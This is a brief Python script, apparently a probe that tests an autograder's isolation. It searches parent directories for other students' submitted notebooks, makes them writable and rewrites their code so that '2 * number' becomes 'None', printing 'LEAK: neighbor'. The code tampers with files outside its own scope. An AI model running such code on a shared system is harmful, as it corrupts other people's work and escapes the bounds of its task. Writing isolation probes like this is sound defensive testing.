# tries: a neighbor's submission and autograded notebook rewritten
# points: 0
# stock: run
from pathlib import Path

for folder in (Path.cwd(), *Path.cwd().parents):
    for path in [*folder.glob("submitted/aa-neighbor/*/*.ipynb"), *folder.glob("submitted/zz-neighbor/*/*.ipynb")]:
        print("LEAK: neighbor")
        path.chmod(0o644)
        path.write_text(path.read_text().replace("2 * number", "None"))
